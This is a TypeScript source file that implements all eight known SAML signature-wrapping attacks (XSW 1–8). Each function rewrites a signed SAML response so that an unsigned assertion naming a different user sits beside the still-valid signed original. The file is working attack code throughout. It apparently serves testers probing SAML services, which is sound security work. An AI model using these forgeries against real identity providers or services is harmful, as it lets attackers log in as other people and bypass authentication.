import { type Document, DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';

// Signature wrapping: what a provider has signed stays in the message as it is, so its signature stays good, and what a careless
// service reads stands beside it. The eight ways that are known, after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to
// Be" (USENIX Security 2012), in the order in which the tools of testers count them.

interface Message {
  document: Document;
  response: Element;
  /** As it was signed. */
  assertion: Element;
  signature: Element;
}

const textOf = (document: Document): string => new XMLSerializer().serializeToString(document);

const byName = (parent: Element, name: string): Element => {
  const found = Array.from(parent.childNodes).find((each) => (each as Element).localName === name);
  if (!found) throw new Error(`There is no ${name}`);
  return found as Element;
};

function read(xml: string): Message {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  if (!response) throw new Error('There is no response');
  const assertion = byName(response, 'Assertion');
  return { document, response, assertion, signature: byName(assertion, 'Signature') };
}

/** Another assertion, about another person, without a signature. */
function forgedOf(assertion: Element, nameId: string): Element {
  const forged = assertion.cloneNode(true) as Element;
  forged.setAttribute('ID', '_forged');
  forged.removeChild(byName(forged, 'Signature'));
  byName(byName(forged, 'Subject'), 'NameID').textContent = nameId;
  return forged;
}

/** Another response, with a signature that is good for the one that is hidden in it. Needs a signed response. */
function forgedResponse({ response }: Message, nameId: string): { forged: Element; original: Element } {
  const original = response.cloneNode(true) as Element;
  original.removeChild(byName(original, 'Signature'));
  byName(byName(byName(response, 'Assertion'), 'Subject'), 'NameID').textContent = nameId;
  response.setAttribute('ID', '_forged');
  return { forged: response, original };
}

/** Changes a message so that another person stands in it. */
export const wrappings: Readonly<Record<string, (xml: string, nameId: string) => string>> = {
  'XSW 1: the signed response in the signature of another one': (xml, nameId) => {
    const message = read(xml);
    const { forged, original } = forgedResponse(message, nameId);
    byName(forged, 'Signature').appendChild(original);
    return textOf(message.document);
  },
  'XSW 2: the signed response before the signature of another one': (xml, nameId) => {
    const message = read(xml);
    const { forged, original } = forgedResponse(message, nameId);
    forged.insertBefore(original, byName(forged, 'Signature'));
    return textOf(message.document);
  },
  'XSW 3: another assertion before the signed one': (xml, nameId) => {
    const { document, response, assertion } = read(xml);
    response.insertBefore(forgedOf(assertion, nameId), assertion);
    return textOf(document);
  },
  'XSW 4: the signed assertion in another one': (xml, nameId) => {
    const { document, response, assertion } = read(xml);
    const forged = forgedOf(assertion, nameId);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
    return textOf(document);
  },
  'XSW 5: the signature in another assertion, and the signed one at the end': (xml, nameId) => {
    const { document, response, assertion, signature } = read(xml);
    const forged = forgedOf(assertion, nameId);
    response.replaceChild(forged, assertion);
    forged.insertBefore(signature, byName(forged, 'Subject'));
    response.appendChild(assertion);
    return textOf(document);
  },
  'XSW 6: the signed assertion in its signature, and that in another assertion': (xml, nameId) => {
    const { document, response, assertion, signature } = read(xml);
    const forged = forgedOf(assertion, nameId);
    response.replaceChild(forged, assertion);
    forged.insertBefore(signature, byName(forged, 'Subject'));
    signature.appendChild(assertion);
    return textOf(document);
  },
  'XSW 7: another assertion in extensions before the signed one': (xml, nameId) => {
    const { document, response, assertion } = read(xml);
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(forgedOf(assertion, nameId));
    response.insertBefore(extensions, assertion);
    return textOf(document);
  },
  'XSW 8: the signed assertion in an object of its signature, and that in another assertion': (xml, nameId) => {
    const { document, response, assertion, signature } = read(xml);
    const forged = forgedOf(assertion, nameId);
    response.replaceChild(forged, assertion);
    forged.insertBefore(signature, byName(forged, 'Subject'));
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    object.appendChild(assertion);
    signature.appendChild(object);
    return textOf(document);
  },
};
